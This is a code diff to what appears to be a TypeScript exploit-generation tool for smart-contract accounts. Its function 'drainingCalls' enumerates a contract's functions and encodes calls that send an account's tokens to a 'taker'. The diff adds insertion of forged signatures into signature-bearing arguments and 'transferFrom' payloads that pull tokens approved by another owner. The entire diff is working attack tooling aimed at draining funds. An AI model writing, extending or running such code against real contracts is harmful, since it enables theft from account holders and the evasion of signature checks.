@@ -13,7 +13,19 @@ import { argumentTypes } from './calls/argumentPlan.ts'
 export type DelegateWay = { data: Hex; signature: string | null; args: string[] }
 
 /** What calls of an account are made to do for a taker. */
-export type Drain = { taker: Address; token: Address | null; coins: bigint; amount: bigint }
+export type Drain = {
+  taker: Address
+  token: Address | null
+  coins: bigint
+  amount: bigint
+  /** The signature that each call is given, where its arguments have a place for one. */
+  signed?: ForgedSignature
+  /** An account whose approved tokens are taken, too. */
+  owner?: Address
+}
+
+/** As bytes, and as words. */
+export type ForgedSignature = { bytes: Hex; v: bigint; word: bigint }
 
 type Parameter = { type: string; components?: readonly Parameter[] }
 /** Values of one way: accounts by their place, numbers, bytes and words. */
@@ -35,6 +47,7 @@ const LATE = 1n << 40n
 const TOKEN_ABI = parseAbi([
   'function transfer(address to, uint256 amount)',
   'function approve(address spender, uint256 amount)',
+  'function transferFrom(address owner, address to, uint256 amount)',
 ])
 const BATCH = parseAbiParameters('(address,uint256,bytes)[]')
 /** ERC-7579 execution modes: one call, and a batch. */
@@ -52,31 +65,60 @@ export function drainingCalls({ functions }: Pick<Bytecode, 'functions'>, drain:
   return changing.flatMap((made) => waysOf(made, drain).slice(0, max))
 }
 
-function waysOf({ selector, signature, arguments: recovered }: ContractFunction, drain: Drain): DelegateWay[] {
-  const text = signature === null ? recovered : signature.slice(signature.indexOf('(') + 1, -1)
+function waysOf(made: ContractFunction, drain: Drain): DelegateWay[] {
+  const { selector, signature: known, arguments: recovered } = made
+  const text = known === null ? recovered : known.slice(known.indexOf('(') + 1, -1)
   const types = argumentTypes(text)
   if (types.length === 0) return []
-  const count = { accounts: countOf(text, /\baddress\b/g), numbers: countOf(text, /\bu?int\d*\b/g) }
-  if (count.accounts === 0 && !/\bbytes\b/.test(text)) return []
-  const ways = new Map<Hex, DelegateWay>()
   try {
     const parameters = parseAbiParameters(types.join(',')) as readonly Parameter[]
+    const signature =
+      drain.signed === undefined ? new Map<number, Hex | bigint>() : signatureIn(parameters, drain.signed)
+    const isNumber = ({ type }: Parameter) => /^u?int\d*$/.test(type)
+    const signing = parameters.filter((one, at) => signature.has(at) && isNumber(one)).length
+    const count = { accounts: countOf(text, /\baddress\b/g), numbers: countOf(text, /\bu?int\d*\b/g) - signing }
+    if (count.accounts === 0 && !/\bbytes\b/.test(text)) return []
+    const ways = new Map<Hex, DelegateWay>()
     for (const filling of fillingsOf(text, drain, count)) {
       const next = { account: 0, number: 0 }
-      const filled = parameters.map((one) => fill(one, { filling, next, numbers: count.numbers }))
+      const filled = parameters.map(
+        (one, at) => signature.get(at) ?? fill(one, { filling, next, numbers: count.numbers }),
+      )
       const data = concatHex([selector, encodeAbiParameters(parameters as never, filled as never)])
-      ways.set(data, { data, signature, args: filled.map(textOf) })
+      ways.set(data, { data, signature: made.signature, args: filled.map(textOf) })
     }
+    return [...ways.values()]
   } catch {
     // A type that the recovery invented.
     return []
   }
-  return [...ways.values()]
+}
+
+/** The arguments that hold a signature, by their place: a parity with two words behind or before it, else the last bytes. */
+function signatureIn(parameters: readonly Parameter[], { bytes, v, word }: ForgedSignature): Map<number, Hex | bigint> {
+  const isWord = (at: number) => /^(bytes32|u?int256)$/.test(parameters[at]?.type ?? '')
+  for (const [at, { type }] of parameters.entries()) {
+    const words =
+      type !== 'uint8'
+        ? []
+        : [
+            [at + 1, at + 2],
+            [at - 2, at - 1],
+          ].find((both) => both.every(isWord))
+    if (words !== undefined && words.length > 0)
+      return new Map([[at, v], ...words.map((one) => [one, wordOf(one)] as const)])
+  }
+  const last = parameters.findLastIndex(({ type }) => type === 'bytes')
+  return last < 0 ? new Map() : new Map([[last, bytes]])
+
+  function wordOf(at: number): Hex | bigint {
+    return parameters[at]?.type === 'bytes32' ? numberToHex(word, { size: 32 }) : word
+  }
 }
 
 function* fillingsOf(
   text: string,
-  { taker, token, coins, amount }: Drain,
+  { taker, token, coins, amount, owner }: Drain,
   { accounts, numbers }: { accounts: number; numbers: number },
 ): Generator<Filling> {
   const hasBytes = /\bbytes\b/.test(text)
@@ -89,8 +131,13 @@ function* fillingsOf(
   const [transfer, approve] = (['transfer', 'approve'] as const).map((functionName) =>
     encodeFunctionData({ abi: TOKEN_ABI, functionName, args: [taker, amount] }),
   ) as [Hex, Hex]
+  const pulled =
+    owner === undefined
+      ? []
+      : [encodeFunctionData({ abi: TOKEN_ABI, functionName: 'transferFrom', args: [owner, taker, amount] })]
   const payloads: { bytes: Hex; word: bigint }[] = hasBytes
     ? [
+        ...pulled.map((bytes) => ({ bytes, word: 0n })),
         { bytes: transfer, word: 0n },
         { bytes: approve, word: 0n },
         { bytes: concatHex([token, numberToHex(0n, { size: 32 }), transfer]), word: 0n },
